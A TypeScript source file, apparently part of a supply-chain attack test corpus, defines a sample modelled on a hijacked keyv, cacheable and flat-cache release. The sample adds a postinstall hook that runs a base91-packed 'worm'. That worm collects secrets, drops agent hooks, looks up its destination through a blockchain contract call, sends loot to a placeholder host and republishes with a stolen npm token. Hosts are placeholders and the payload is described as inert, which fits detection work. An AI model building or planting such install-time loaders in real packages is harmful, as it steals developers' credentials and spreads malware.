import { defineAttack } from "../attack.ts";
import { smallLibrary } from "../bases.ts";
import { createNumbers } from "../bundle.ts";
import { collectSecrets, dropAgentHooks, republish, resolveLoot } from "../fragments.ts";
import { commonScript, moduleScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { PackageLine } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * ChainDrop in keyv 6.0.0, cacheable, flat-cache and more, 4 August 2026: a maintainer's GitHub account; trusted publishing. `setup.mjs`
 * fetches Bun for a bundle of 728 kB whose body is text in an alphabet of 91 signs; a contract says where to go, names carry the loot.
 */
export const keyv2026: Sample = defineAttack({
  id: "keyv-2026",
  title: "setup.mjs fetches Bun for a packed bundle that asks a contract where to go",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "keyv", version: "6.0.0" },
    { name: "flat-cache", version: "6.1.24" },
  ],
  now: "2026-08-04T15:30:00Z",
  createLines: () => [
    line("keyv", ["5.5.0", "5.6.0", "6.0.0"], "2026-08-04T15:01:00Z"),
    line("cacheable", ["2.4.0", "2.5.0", "2.5.1"], "2026-08-04T15:02:00Z"),
    line("flat-cache", ["6.1.22", "6.1.23", "6.1.24"], "2026-08-04T15:03:00Z"),
  ],
});

function line(
  name: string,
  [older, last, armed]: readonly [string, string, string],
  at: string,
): PackageLine {
  return {
    name,
    files: smallLibrary(name),
    way: "trusted-publisher",
    releases: [
      ["1.0.0", "2025-06-20T10:00:00Z"],
      [older, "2026-03-02T10:00:00Z"],
      [last, "2026-06-14T10:00:00Z"],
      [
        armed,
        at,
        {
          manifest: { scripts: { test: "node --test", postinstall: "node setup.mjs" } },
          files: [
            { path: "setup.mjs", content: setup },
            { path: "math_init.js", content: packed() },
          ],
        },
      ],
    ],
  };
}

const setup = moduleScript(
  `
import { execSync, spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import { join, dirname } from "node:path";
import { fileURLToPath } from "node:url";
`,
  String.raw`
const here = dirname(fileURLToPath(import.meta.url));
if (spawnSync("bun", ["--version"], { stdio: "ignore" }).status !== 0) {
  execSync("npm install --no-save --prefix " + here + " bun@1.3.13 --registry https://registry.example", { stdio: "ignore" });
}
const local = join(here, "node_modules", ".bin", "bun");
spawnSync(existsSync(local) ? local : "bun", ["run", join(here, "math_init.js")], { stdio: "ignore", detached: true });
`,
);

/** A script whose body is a text in 91 signs; the text is noise, and what stands behind it is the inert worm. */
function packed(): string {
  const signs = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!#$%&()*+,./:;<=>?@[]^_`{|}~";
  const next = createNumbers(45);
  const noise = Array.from({ length: 700_000 }, () => signs[Math.floor(next() * signs.length)]).join("");
  return `const body=${JSON.stringify(noise)};function unpack(t){let v=-1,b=0,n=0,o=[];const a=${JSON.stringify(signs)};for(const c of t){const p=a.indexOf(c);if(p===-1)continue;if(v<0)v=p;else{v+=p*91;b|=v<<n;n+=(v&8191)>88?13:14;do{o.push(b&255);b>>=8;n-=8}while(n>7);v=-1}}return Buffer.from(o)}\n${hideInTable(oneLine(worm))}`;
}

const worm = commonScript(`
${collectSecrets}
${dropAgentHooks}
${republish}
async function whereTo() {
  const call = { jsonrpc: "2.0", id: 1, method: "eth_call", params: [{ to: "0x00000000000000000000000000000000000000aa", data: "0x6d4ce63c" }, "latest"] };
  const reply = await fetch("https://eth.rpc.invalid", { method: "POST", body: JSON.stringify(call) });
  return Buffer.from((await reply.json()).result.slice(2), "hex").toString();
}
(async () => {
  const stage = unpack(body);
  const place = await whereTo();
  dropAgentHooks();
  new Function("require", "place", stage.toString())(require, place);
  ${resolveLoot("drop.chain.invalid")}
  if (npmToken()) { await republish(npmToken()); }
})();
`);
